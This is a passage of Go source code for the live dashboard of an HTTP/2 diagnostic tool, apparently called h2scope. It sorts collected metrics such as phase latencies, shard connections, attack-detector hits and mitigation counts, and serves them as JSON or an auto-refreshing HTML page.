			} else if v, ok := labelValue(m.Name, "h2_trace_sub_pending", "sub"); ok {
				st.SubPending[v] += m.Value
			} else if v, ok := labelValue(m.Name, "h2_attacks_detected_total", "kind"); ok {
				st.DetectorHits[v] += m.Value
			} else if v, ok := labelValue(m.Name, "h2_mitigations_total", "action"); ok {
				st.Mitigations[v] += m.Value
			} else if v, ok := labelValue(m.Name, PhaseMetricName, "phase"); ok && m.Histogram != nil {
				ps := PhaseStat{Phase: v, Count: m.Histogram.Count}
				if ps.Count > 0 {
					ps.P50Ns = clampQuantile(m.Histogram, 0.50)
					ps.P99Ns = clampQuantile(m.Histogram, 0.99)
				}
				st.Phases = append(st.Phases, ps)
			}
		}
	}
	// Shard rows sort numerically; the snapshot's lexical order would put
	// shard 10 before shard 2.
	sort.Slice(st.Shards, func(i, j int) bool { return st.Shards[i].Shard < st.Shards[j].Shard })

	// Causal order beats alphabetical for the phase table.
	orderOf := map[string]int{}
	for i, p := range Phases() {
		orderOf[p] = i
	}
	sort.Slice(st.Phases, func(i, j int) bool {
		oi, iok := orderOf[st.Phases[i].Phase]
		oj, jok := orderOf[st.Phases[j].Phase]
		if iok && jok {
			return oi < oj
		}
		if iok != jok {
			return iok
		}
		return st.Phases[i].Phase < st.Phases[j].Phase
	})

	if d.monitor != nil {
		st.Anomalies = d.monitor.Anomalies()
		st.Exemplars = d.monitor.Exemplars()
		if st.Targets == 0 {
			st.Targets = d.monitor.Targets()
		}
	}
	if d.recorder != nil {
		st.FlightDumps = d.recorder.Dumps()
		st.FlightSuppressed = d.recorder.Suppressed()
	}

	// Targets/sec over the window since the previous scrape (rate cached
	// across scrapes closer than 250ms).
	d.mu.Lock()
	if d.lastAt.IsZero() {
		d.lastAt, d.lastTargets = d.start, 0
	}
	if dt := now.Sub(d.lastAt); dt >= 250*time.Millisecond {
		d.lastRate = float64(st.Targets-d.lastTargets) / dt.Seconds()
		d.lastAt, d.lastTargets = now, st.Targets
	}
	st.TargetsPerSec = d.lastRate
	d.mu.Unlock()
	return st
}

// ServeHTTP implements http.Handler: JSON for .json paths (or
// ?format=json), server-rendered HTML otherwise.
func (d *Dashboard) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	st := d.state()
	if strings.HasSuffix(r.URL.Path, ".json") || r.URL.Query().Get("format") == "json" {
		w.Header().Set("Content-Type", "application/json; charset=utf-8")
		enc := json.NewEncoder(w)
		enc.SetIndent("", "  ")
		if err := enc.Encode(st); err != nil {
			// The scrape client went away mid-response; nothing to do.
			return
		}
		return
	}
	w.Header().Set("Content-Type", "text/html; charset=utf-8")
	if err := dashTemplate.Execute(w, st); err != nil {
		// Likewise: a client gone mid-render is not actionable.
		return
	}
}

// tmplHelpers let the template render durations and rates compactly.
var tmplHelpers = template.FuncMap{
	"dur":  func(ns int64) string { return fmtDur(time.Duration(ns)) },
	"rate": func(v float64) string { return strconv.FormatFloat(v, 'f', 1, 64) },
	"secs": func(v float64) string { return strconv.FormatFloat(v, 'f', 0, 64) },
}

var dashTemplate = template.Must(template.New("dashboard").Funcs(tmplHelpers).Parse(`<!DOCTYPE html>
<html>
<head>
<meta charset="utf-8">
<meta http-equiv="refresh" content="2">
<title>{{.Title}} — h2scope dashboard</title>
<style>
body { font-family: ui-monospace, Menlo, monospace; background: #101418; color: #d7dde3; margin: 1.5em; }
h1 { font-size: 1.2em; } h2 { font-size: 1em; margin: 1.2em 0 .3em; color: #8ab4f8; }
table { border-collapse: collapse; } td, th { padding: .15em .8em .15em 0; text-align: left; }
th { color: #9aa5b1; font-weight: normal; border-bottom: 1px solid #2a3138; }
.kpi { display: inline-block; margin-right: 2.5em; } .kpi b { font-size: 1.4em; display: block; }
.muted { color: #9aa5b1; }
</style>
</head>
<body>
<h1>{{.Title}} <span class="muted">· live run dashboard · up {{secs .UptimeSec}}s</span></h1>
<div>
<span class="kpi"><b>{{.Targets}}</b>targets</span>
<span class="kpi"><b>{{rate .TargetsPerSec}}/s</b>rate</span>
<span class="kpi"><b>{{.Anomalies}}</b>anomalies</span>
<span class="kpi"><b>{{.FlightDumps}}</b>flight dumps</span>
<span class="kpi"><b>{{.FlightSuppressed}}</b>suppressed</span>
</div>
{{if .Phases}}<h2>phase latency</h2>
<table><tr><th>phase</th><th>count</th><th>p50</th><th>p99</th></tr>
{{range .Phases}}<tr><td>{{.Phase}}</td><td>{{.Count}}</td><td>{{.P50}}</td><td>{{.P99}}</td></tr>
{{end}}</table>{{end}}
{{if .Shards}}<h2>serve shards</h2>
<table><tr><th>shard</th><th>conns</th></tr>
{{range .Shards}}<tr><td>{{.Shard}}</td><td>{{.Conns}}</td></tr>
{{end}}</table>{{end}}
{{if .Egress}}<h2>egress scheduler</h2>
<table>
<tr><td>queued frames</td><td>{{.Egress.QueueDepth}}</td></tr>
<tr><td>scheduling passes</td><td>{{.Egress.Passes}}</td></tr>
<tr><td>ready streams p50</td><td>{{.Egress.ReadyP50}}</td></tr>
<tr><td>ready streams p99</td><td>{{.Egress.ReadyP99}}</td></tr>
</table>{{end}}
{{if .Outcomes}}<h2>outcomes</h2>
<table>{{range $k, $v := .Outcomes}}<tr><td>{{$k}}</td><td>{{$v}}</td></tr>{{end}}</table>{{end}}
{{if .FailureKinds}}<h2>error classes</h2>
<table>{{range $k, $v := .FailureKinds}}<tr><td>{{$k}}</td><td>{{$v}}</td></tr>{{end}}</table>{{end}}
<h2>trace bus</h2>
<table>
<tr><td>ring emitted</td><td>{{.RingEmitted}}</td></tr>
<tr><td>ring dropped</td><td>{{.RingDropped}}</td></tr>
{{range $k, $v := .SubDropped}}<tr><td>sub {{$k}} dropped</td><td>{{$v}}</td></tr>{{end}}
{{range $k, $v := .SubPending}}<tr><td>sub {{$k}} pending</td><td>{{$v}}</td></tr>{{end}}
</table>
{{if .DetectorHits}}<h2>detector hits</h2>
<table>{{range $k, $v := .DetectorHits}}<tr><td>{{$k}}</td><td>{{$v}}</td></tr>{{end}}</table>{{end}}
{{if .Mitigations}}<h2>mitigations</h2>
<table>{{range $k, $v := .Mitigations}}<tr><td>{{$k}}</td><td>{{$v}}</td></tr>{{end}}</table>{{end}}
{{if .Exemplars}}<h2>slow-sample exemplars</h2>
<table><tr><th>phase</th><th>target</th><th>conn</th><th>duration</th><th>trace</th></tr>
{{range .Exemplars}}<tr><td>{{.Phase}}</td><td>{{.Target}}</td><td>{{.Conn}}</td><td>{{dur .Duration.Nanoseconds}}</td><td>{{.TraceFile}}</td></tr>
{{end}}</table>{{end}}
<p class="muted">auto-refreshes every 2s · JSON at <a href="/dashboard.json" style="color:#8ab4f8">/dashboard.json</a> · metrics at <a href="/metrics" style="color:#8ab4f8">/metrics</a></p>
</body>
</html>
`))
